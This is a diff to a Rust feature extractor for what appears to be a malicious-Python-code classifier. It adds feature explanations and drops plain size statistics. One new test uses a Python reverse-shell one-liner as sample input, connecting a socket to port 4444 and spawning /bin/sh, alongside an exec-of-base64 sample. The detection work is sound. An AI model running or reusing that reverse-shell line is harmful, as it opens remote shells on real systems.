@@ -14,9 +14,13 @@
 //!   host name, path), URL scheme, lower-cased word unigrams and bigrams from the text (URL host
 //!   names are masked so that no particular host can be learnt);
 //! - identifier shape (`IlIlIl`-style or `_0x…` obfuscated names, long random-looking names);
-//! - bucketed whole-file statistics: size, lines, longest line, long lines, longest string,
-//!   highest string entropy, base64/hex/escape volume, exec/eval count, def/class counts,
-//!   indentation, non-ASCII and NUL bytes, and a few conjunctions (exec with a long blob).
+//! - bucketed whole-file statistics, emitted only when something notable is present: long lines,
+//!   long strings, high string entropy, base64/hex/`\x` volume, exec/eval count, exec without any
+//!   `def`, exec next to a blob, URLs, IPs, obfuscated names, non-ASCII or NUL bytes, truncation.
+//!   Plain size, line counts and "what the file starts with" are deliberately not features: in the
+//!   training data they separate packages from libraries without saying anything about behaviour.
+//!
+//! n-grams never include the file start, and an empty file has no features at all.
 //!
 //! Only the first [`MAX_SCAN_BYTES`] bytes are read.
 
@@ -74,15 +78,63 @@ impl FeatureVec {
         self.idx.is_empty()
     }
 
+    /// Allocated capacity (entries), to let long-lived buffers shrink after a huge input.
+    pub(crate) fn capacity(&self) -> usize {
+        self.idx.capacity()
+    }
+
     #[inline]
     fn push(&mut self, h: u64) {
-        self.idx.push((mix(h) >> (64 - HASH_BITS)) as u32);
+        self.idx.push(bucket(h));
     }
 
     fn finish(&mut self) {
         self.idx.sort_unstable();
         self.idx.dedup();
     }
+}
+
+/// Where extracted features go: a [`FeatureVec`] (names never computed) or an explanation.
+/// Both run the very same extraction code.
+trait Sink {
+    const EXPLAIN: bool;
+    fn add(&mut self, h: u64, what: &dyn Fn() -> String);
+}
+
+impl Sink for FeatureVec {
+    const EXPLAIN: bool = false;
+    #[inline(always)]
+    fn add(&mut self, h: u64, _what: &dyn Fn() -> String) {
+        self.push(h);
+    }
+}
+
+struct Explainer(Vec<(u32, String)>);
+
+impl Sink for Explainer {
+    const EXPLAIN: bool = true;
+    fn add(&mut self, h: u64, what: &dyn Fn() -> String) {
+        self.0.push((bucket(h), what()));
+    }
+}
+
+#[inline]
+fn bucket(h: u64) -> u32 {
+    (mix(h) >> (64 - HASH_BITS)) as u32
+}
+
+fn lossy(b: &[u8]) -> String {
+    String::from_utf8_lossy(&b[..b.len().min(40)]).into_owned()
+}
+
+/// Human-readable names of the features of `code`: (bucket, name) pairs, sorted, for
+/// debugging and for reports. Runs the same extraction as [`features`].
+pub fn explain(code: &[u8]) -> Vec<(u32, String)> {
+    let mut e = Explainer(Vec::new());
+    extract(code, &mut e);
+    e.0.sort();
+    e.0.dedup();
+    e.0
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -210,8 +262,8 @@ fn is_string_prefix(id: &[u8]) -> bool {
 
 const OPS3: [&[u8]; 5] = [b"**=", b"//=", b">>=", b"<<=", b"..."];
 const OPS2: [&[u8]; 19] = [
-    b"**", b"//", b"==", b"!=", b"<=", b">=", b"->", b"+=", b"-=", b"*=", b"/=", b"%=", b"&=", b"|=",
-    b"^=", b":=", b"<<", b">>", b"@=",
+    b"**", b"//", b"==", b"!=", b"<=", b">=", b"->", b"+=", b"-=", b"*=", b"/=", b"%=", b"&=", b"|=", b"^=", b":=",
+    b"<<", b">>", b"@=",
 ];
 
 impl<'a> Lexer<'a> {
@@ -312,9 +364,8 @@ impl<'a> Lexer<'a> {
                     let hex = c == b'0' && self.i + 1 < s.len() && (s[self.i + 1] | 0x20) == b'x';
                     while self.i < s.len() {
                         let d = s[self.i];
-                        if d.is_ascii_alphanumeric() || d == b'_' || d == b'.' {
-                            self.i += 1;
-                        } else if (d == b'+' || d == b'-') && !hex && (s[self.i - 1] | 0x20) == b'e' {
+                        let exponent_sign = (d == b'+' || d == b'-') && !hex && (s[self.i - 1] | 0x20) == b'e';
+                        if d.is_ascii_alphanumeric() || d == b'_' || d == b'.' || exponent_sign {
                             self.i += 1;
                         } else {
                             break;
@@ -379,10 +430,56 @@ impl Shape {
 }
 
 const HOST_TLDS: &[&[u8]] = &[
-    b"com", b"net", b"org", b"io", b"ru", b"cn", b"xyz", b"top", b"info", b"invalid", b"example", b"test",
-    b"local", b"localhost", b"me", b"co", b"tk", b"ml", b"ga", b"cf", b"gq", b"onion", b"site", b"online",
-    b"dev", b"app", b"cc", b"pw", b"su", b"biz", b"us", b"uk", b"de", b"fr", b"in", b"ir", b"link", b"live",
-    b"club", b"store", b"tech", b"cloud", b"host", b"space", b"fun", b"lol", b"sh", b"ly", b"gg", b"to",
+    b"com",
+    b"net",
+    b"org",
+    b"io",
+    b"ru",
+    b"cn",
+    b"xyz",
+    b"top",
+    b"info",
+    b"invalid",
+    b"example",
+    b"test",
+    b"local",
+    b"localhost",
+    b"me",
+    b"co",
+    b"tk",
+    b"ml",
+    b"ga",
+    b"cf",
+    b"gq",
+    b"onion",
+    b"site",
+    b"online",
+    b"dev",
+    b"app",
+    b"cc",
+    b"pw",
+    b"su",
+    b"biz",
+    b"us",
+    b"uk",
+    b"de",
+    b"fr",
+    b"in",
+    b"ir",
+    b"link",
+    b"live",
+    b"club",
+    b"store",
+    b"tech",
+    b"cloud",
+    b"host",
+    b"space",
+    b"fun",
+    b"lol",
+    b"sh",
+    b"ly",
+    b"gg",
+    b"to",
 ];
 
 /// `a.b.c.d` with 1-3 digit parts at the start of `s`; returns its length.
@@ -413,7 +510,9 @@ fn ipv4_at(s: &[u8]) -> Option<usize> {
 fn contains_ipv4(s: &[u8]) -> bool {
     let mut i = 0;
     while i < s.len() {
-        if s[i].is_ascii_digit() && (i == 0 || !(s[i - 1].is_ascii_digit() || s[i - 1] == b'.')) && ipv4_at(&s[i..]).is_some()
+        if s[i].is_ascii_digit()
+            && (i == 0 || !(s[i - 1].is_ascii_digit() || s[i - 1] == b'.'))
+            && ipv4_at(&s[i..]).is_some()
         {
             return true;
         }
@@ -511,7 +610,6 @@ fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
 struct Stats {
     n_exec: usize,
     n_def: usize,
-    n_class: usize,
     n_obf_ids: usize,
     n_strings: usize,
     max_str: usize,
@@ -563,14 +661,16 @@ fn id_shape(id: &[u8]) -> Option<&'static str> {
     None
 }
 
-fn string_features(body: &[u8], fv: &mut FeatureVec, st: &mut Stats, counts: &mut [u32; 256]) -> u64 {
+fn string_features<S: Sink>(body: &[u8], fv: &mut S, st: &mut Stats, counts: &mut [u32; 256]) -> u64 {
     let n = body.len();
     st.n_strings += 1;
     st.max_str = st.max_str.max(n);
     let shape = shape_of(body);
-    fv.push(ns(NS_STR_SHAPE, named(shape.name())));
-    fv.push(ns(NS_STR_SHAPE, combine(named("len"), log2b(n))));
-    fv.push(ns(NS_STR_SHAPE, combine(named(shape.name()), log2b(n))));
+    fv.add(ns(NS_STR_SHAPE, named(shape.name())), &|| format!("str_shape:{}", shape.name()));
+    fv.add(ns(NS_STR_SHAPE, combine(named("len"), log2b(n))), &|| format!("str_len_log2:{}", log2b(n)));
+    fv.add(ns(NS_STR_SHAPE, combine(named(shape.name()), log2b(n))), &|| {
+        format!("str_shape_len:{}/{}", shape.name(), log2b(n))
+    });
     if n >= 20 {
         let e = entropy_x4(body, counts);
         st.max_entropy_x4 = st.max_entropy_x4.max(e);
@@ -593,18 +693,21 @@ fn string_features(body: &[u8], fv: &mut FeatureVec, st: &mut Stats, counts: &mu
             while s0 > 0 && p - s0 < 16 && (body[s0 - 1].is_ascii_alphanumeric() || body[s0 - 1] == b'+') {
                 s0 -= 1;
             }
-            fv.push(ns(NS_SCHEME, fnv_lower(&body[s0..p])));
+            fv.add(ns(NS_SCHEME, fnv_lower(&body[s0..p])), &|| {
+                format!("url_scheme:{}", lossy(&body[s0..p]).to_lowercase())
+            });
             let hs = p + 3;
             let mut he = hs;
-            while he < n && !matches!(body[he], b'/' | b'?' | b'#' | b'"' | b'\'' | b' ' | b'\n' | b'\t' | b'{' | b'}') {
+            while he < n && !matches!(body[he], b'/' | b'?' | b'#' | b'"' | b'\'' | b' ' | b'\n' | b'\t' | b'{' | b'}')
+            {
                 he += 1;
             }
             let host = &body[hs..he];
             if ipv4_at(host).is_some() {
-                fv.push(ns(NS_SCHEME, named("url_ip")));
+                fv.add(ns(NS_SCHEME, named("url_ip")), &|| "url_ip".into());
             }
             if host.contains(&b':') {
-                fv.push(ns(NS_SCHEME, named("url_port")));
+                fv.add(ns(NS_SCHEME, named("url_port")), &|| "url_port".into());
             }
             if n_masks < masks.len() {
                 masks[n_masks] = (hs, he);
@@ -618,7 +721,7 @@ fn string_features(body: &[u8], fv: &mut FeatureVec, st: &mut Stats, counts: &mu
     }
     if shape != Shape::Ip && n <= 4096 && contains_ipv4(body) {
         st.n_ips += 1;
-        fv.push(ns(NS_STR_SHAPE, named("has_ip")));
+        fv.add(ns(NS_STR_SHAPE, named("has_ip")), &|| "str_has_ip".into());
     } else if shape == Shape::Ip {
         st.n_ips += 1;
     }
@@ -627,6 +730,7 @@ fn string_features(body: &[u8], fv: &mut FeatureVec, st: &mut Stats, counts: &mu
         let mut i = 0;
         let mut taken = 0;
         let mut prev: u64 = named("^");
+        let mut prev_w: &[u8] = b"^";
         while i < n && taken < MAX_WORDS_PER_STRING && st.words < MAX_WORDS_PER_FILE {
             if !body[i].is_ascii_alphabetic() {
                 i += 1;
@@ -644,9 +748,12 @@ fn string_features(body: &[u8], fv: &mut FeatureVec, st: &mut Stats, counts: &mu
                 continue;
             }
             let h = fnv_lower(w);
-            fv.push(ns(NS_STR_WORD, h));
-            fv.push(ns(NS_STR_BIGRAM, combine(prev, h)));
+            fv.add(ns(NS_STR_WORD, h), &|| format!("str_word:{}", lossy(w).to_lowercase()));
+            fv.add(ns(NS_STR_BIGRAM, combine(prev, h)), &|| {
+                format!("str_words:{} {}", lossy(prev_w).to_lowercase(), lossy(w).to_lowercase())
+            });
             prev = h;
+            prev_w = w;
             taken += 1;
             st.words += 1;
         }
@@ -654,7 +761,7 @@ fn string_features(body: &[u8], fv: &mut FeatureVec, st: &mut Stats, counts: &mu
     // the token that stands for this literal in the n-gram stream
     if n <= 16 && matches!(shape, Shape::Other | Shape::Path | Shape::Text) {
         let h = fnv_lower(body);
-        fv.push(ns(NS_STR_LIT, h));
+        fv.add(ns(NS_STR_LIT, h), &|| format!("str_lit:{:?}", lossy(body).to_lowercase()));
         combine(named("lit"), h)
     } else {
         named(shape.name())
@@ -687,29 +794,44 @@ fn num_class(num: &[u8]) -> &'static str {
 /// Never panics, whatever the bytes.
 pub fn features(code: &[u8], out: &mut FeatureVec) {
     out.clear();
+    extract(code, out);
+    out.finish();
+}
+
+fn h_newline_const() -> u64 {
+    named("NL")
+}
+
+/// Name of a token of the n-gram stream (explanations only; mirrors `string_features`).
+fn tok_name(tok: &Tok) -> String {
+    match tok {
+        Tok::Name(id) | Tok::Op(id) => lossy(id),
+        Tok::Num(n) => num_class(n).to_string(),
+        Tok::Newline => "NL".into(),
+        Tok::Str(b) => {
+            let shape = shape_of(b);
+            if b.len() <= 16 && matches!(shape, Shape::Other | Shape::Path | Shape::Text) {
+                format!("{:?}", lossy(b).to_lowercase())
+            } else {
+                shape.name().to_string()
+            }
+        }
+    }
+}
+
+fn extract<S: Sink>(code: &[u8], out: &mut S) {
     let truncated = code.len() > MAX_SCAN_BYTES;
     let code = &code[..code.len().min(MAX_SCAN_BYTES)];
 
-    // whole-file pass: lines, line lengths, indentation, odd bytes
-    let (mut lines, mut max_line, mut long_lines, mut indented, mut nonascii, mut nul) = (0usize, 0usize, 0usize, 0usize, 0usize, 0usize);
+    // whole-file pass: line lengths, odd bytes
+    let (mut max_line, mut long_lines, mut nonascii, mut nul) = (0usize, 0usize, 0usize, 0usize);
     let mut cur = 0usize;
-    let mut at_line_start = true;
     for &b in code {
         if b == b'\n' {
-            lines += 1;
             max_line = max_line.max(cur);
-            if cur > 300 {
-                long_lines += 1;
-            }
+            long_lines += (cur > 300) as usize;
             cur = 0;
-            at_line_start = true;
             continue;
-        }
-        if at_line_start {
-            if b == b' ' || b == b'\t' {
-                indented += 1;
-            }
-            at_line_start = false;
         }
         cur += 1;
         if b >= 0x80 {
@@ -718,18 +840,12 @@ pub fn features(code: &[u8], out: &mut FeatureVec) {
             nul += 1;
         }
     }
-    if cur > 0 {
-        lines += 1;
-        max_line = max_line.max(cur);
-        if cur > 300 {
-            long_lines += 1;
-        }
-    }
+    max_line = max_line.max(cur);
+    long_lines += (cur > 300) as usize;
 
     let mut st = Stats {
         n_exec: 0,
         n_def: 0,
-        n_class: 0,
         n_obf_ids: 0,
         n_strings: 0,
         max_str: 0,
@@ -743,8 +859,9 @@ pub fn features(code: &[u8], out: &mut FeatureVec) {
     };
     let mut counts = [0u32; 256];
 
-    let h_newline = named("NL");
-    let h_start = named("^");
+    let h_newline = h_newline_const();
+    // the file start looks like a line start: "first statement" is not a feature
+    let h_start = h_newline_const();
     let h_import = fnv(b"import");
     let h_from = fnv(b"from");
     let h_as = fnv(b"as");
@@ -754,6 +871,8 @@ pub fn features(code: &[u8], out: &mut FeatureVec) {
 
     let mut lx = Lexer::new(code);
     let (mut p1, mut p2) = (h_start, h_start); // previous two token hashes
+    let mut n_toks = 0usize;
+    let (mut nm1, mut nm2) = (String::from("NL"), String::from("NL")); // their names (explanations only)
     let mut prev_name: Option<&[u8]> = None; // a name right before a "." (for dotted pairs)
     let mut after_dot = false;
     // 0: none, 1: after `import` (names are modules), 2: after `from` (next name is a module)
@@ -771,20 +890,19 @@ pub fn features(code: &[u8], out: &mut FeatureVec) {
             }
             Tok::Name(id) => {
                 let h = fnv(id);
-                fv_push_id(out, h);
+                out.add(ns(NS_ID, h), &|| format!("id:{}", lossy(id)));
                 match id {
                     b"exec" | b"eval" => st.n_exec += 1,
                     b"def" => st.n_def += 1,
-                    b"class" => st.n_class += 1,
                     _ => {}
                 }
                 if let Some(shape) = id_shape(id) {
                     st.n_obf_ids += 1;
-                    out.push(ns(NS_ID_SHAPE, named(shape)));
+                    out.add(ns(NS_ID_SHAPE, named(shape)), &|| format!("id_shape:{shape}"));
                 }
                 if after_dot {
                     if let Some(pn) = prev_name {
-                        out.push(ns(NS_DOT, combine(fnv(pn), h)));
+                        out.add(ns(NS_DOT, combine(fnv(pn), h)), &|| format!("dotted:{}.{}", lossy(pn), lossy(id)));
                     }
                 } else if h == h_import {
                     import_state = 1;
@@ -796,9 +914,9 @@ pub fn features(code: &[u8], out: &mut FeatureVec) {
                 } else if after_as {
                     after_as = false;
                 } else if import_state == 1 {
-                    out.push(ns(NS_IMPORT, h));
+                    out.add(ns(NS_IMPORT, h), &|| format!("import:{}", lossy(id)));
                 } else if import_state == 2 {
-                    out.push(ns(NS_IMPORT, h));
+                    out.add(ns(NS_IMPORT, h), &|| format!("import:{}", lossy(id)));
                     import_state = 3; // wait for `import`
                 }
                 prev_name = Some(id);
@@ -807,7 +925,7 @@ pub fn features(code: &[u8], out: &mut FeatureVec) {
             Tok::Str(body) => {
                 if p1 == h_open && p2 == h_dunder_import {
                     let end = body.iter().position(|&c| c == b'.').unwrap_or(body.len());
-                    out.push(ns(NS_IMPORT, fnv(&body[..end])));
+                    out.add(ns(NS_IMPORT, fnv(&body[..end])), &|| format!("import:{}", lossy(&body[..end])));
                 }
                 prev_name = None;
                 string_features(body, out, &mut st, &mut counts)
@@ -828,46 +946,51 @@ pub fn features(code: &[u8], out: &mut FeatureVec) {
             }
         };
         after_dot = th == h_dot;
-        out.push(ns(NS_BIGRAM, combine(p1, th)));
-        out.push(ns(NS_TRIGRAM, combine(combine(p2, p1), th)));
+        let cur = if S::EXPLAIN { tok_name(&tok) } else { String::new() };
+        // n-grams only over real tokens: the start of the file is not a token
+        if n_toks >= 1 {
+            out.add(ns(NS_BIGRAM, combine(p1, th)), &|| format!("bigram:{} {}", nm1, cur));
+        }
+        if n_toks >= 2 {
+            out.add(ns(NS_TRIGRAM, combine(combine(p2, p1), th)), &|| format!("trigram:{} {} {}", nm2, nm1, cur));
+        }
+        n_toks += 1;
+        if S::EXPLAIN {
+            nm2 = std::mem::replace(&mut nm1, cur);
+        }
         p2 = p1;
         p1 = th;
     }
 
     // whole-file statistics, bucketed
-    let dense = |out: &mut FeatureVec, name: &str, bucket: u64| out.push(ns(NS_DENSE, combine(named(name), bucket)));
-    dense(out, "bytes", log2b(code.len()));
-    dense(out, "lines", log2b(lines));
-    dense(out, "max_line", log2b(max_line));
-    dense(out, "long_lines", log2b(long_lines));
-    dense(out, "avg_line", log2b(code.len() / lines.max(1)));
-    dense(out, "indented_tenths", (indented * 10 / lines.max(1)) as u64);
-    dense(out, "nonascii", log2b(nonascii));
-    dense(out, "nul", (nul > 0) as u64);
-    dense(out, "truncated", truncated as u64);
-    dense(out, "exec", st.n_exec.min(5) as u64);
-    dense(out, "defs", log2b(st.n_def));
-    dense(out, "classes", log2b(st.n_class));
-    dense(out, "obf_ids", log2b(st.n_obf_ids));
-    dense(out, "strings", log2b(st.n_strings));
-    dense(out, "max_str", log2b(st.max_str));
-    dense(out, "b64_bytes", log2b(st.b64_bytes));
-    dense(out, "hex_bytes", log2b(st.hex_bytes));
-    dense(out, "esc_strings", log2b(st.esc_strings));
-    dense(out, "max_entropy_x4", st.max_entropy_x4);
-    dense(out, "urls", log2b(st.n_urls));
-    dense(out, "ips", log2b(st.n_ips));
+    let dense = |out: &mut S, name: &str, bucket: u64| {
+        out.add(ns(NS_DENSE, combine(named(name), bucket)), &|| format!("stat:{name}={bucket}"))
+    };
+    // Only the presence of something notable is a feature: absence ("no exec", "short file")
+    // and plain size would let the model learn the length and shape of files rather than what
+    // they do.
+    let notable = |out: &mut S, name: &str, present: bool, bucket: u64| {
+        if present {
+            dense(out, name, bucket)
+        }
+    };
+    notable(out, "max_line", max_line >= 256, log2b(max_line));
+    notable(out, "long_lines", long_lines > 0, log2b(long_lines));
+    notable(out, "nonascii", nonascii > 0, log2b(nonascii));
+    notable(out, "nul", nul > 0, 1);
+    notable(out, "truncated", truncated, 1);
+    notable(out, "exec", st.n_exec > 0, st.n_exec.min(5) as u64);
+    notable(out, "obf_ids", st.n_obf_ids > 0, log2b(st.n_obf_ids));
+    notable(out, "max_str", st.max_str >= 128, log2b(st.max_str));
+    notable(out, "b64_bytes", st.b64_bytes > 0, log2b(st.b64_bytes));
+    notable(out, "hex_bytes", st.hex_bytes > 0, log2b(st.hex_bytes));
+    notable(out, "esc_strings", st.esc_strings > 0, log2b(st.esc_strings));
+    notable(out, "max_entropy_x4", st.max_entropy_x4 >= 18, st.max_entropy_x4);
+    notable(out, "urls", st.n_urls > 0, log2b(st.n_urls));
+    notable(out, "ips", st.n_ips > 0, log2b(st.n_ips));
     let blob = st.b64_bytes + st.hex_bytes + st.esc_strings * 64 >= 256 || st.max_str >= 1024;
-    dense(out, "exec_and_blob", (st.n_exec > 0 && blob) as u64);
-    dense(out, "exec_and_no_def", (st.n_exec > 0 && st.n_def == 0) as u64);
-    dense(out, "url_and_no_def", (st.n_urls > 0 && st.n_def == 0) as u64);
-    dense(out, "bias", 1);
-    out.finish();
-}
-
-#[inline]
-fn fv_push_id(out: &mut FeatureVec, h: u64) {
-    out.push(ns(NS_ID, h));
+    notable(out, "exec_and_blob", st.n_exec > 0 && blob, 1);
+    notable(out, "exec_without_def", st.n_exec > 0 && st.n_def == 0, 1);
 }
 
 #[cfg(test)]
@@ -919,7 +1042,24 @@ mod tests {
         assert!(a.indices().windows(2).all(|w| w[0] < w[1]));
         assert!(a.indices().iter().all(|&i| (i as usize) < N_BUCKETS));
         features(b"", &mut a);
-        assert!(!a.is_empty()); // dense features are always present
+        assert!(a.is_empty()); // nothing notable in an empty file: no features at all
+        assert_eq!(a.value(), 0.0);
+    }
+
+    #[test]
+    fn explain_covers_exactly_the_features() {
+        let samples: [&[u8]; 3] = [
+            b"import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",4444));pty.spawn(\"/bin/sh\")",
+            b"def f(x):\n    '''doc'''\n    return x.y.z + 0x10 # c\nexec(base64.b64decode('aGVsbG8gd29ybGQgaGVsbG8gd29ybGQK'))\n",
+            b"\xff\x00\x01 random \x80 bytes ' unterminated",
+        ];
+        for code in samples {
+            let mut fv = FeatureVec::new();
+            features(code, &mut fv);
+            let mut buckets: Vec<u32> = explain(code).into_iter().map(|(b, _)| b).collect();
+            buckets.dedup();
+            assert_eq!(buckets, fv.indices());
+        }
     }
 
     #[test]
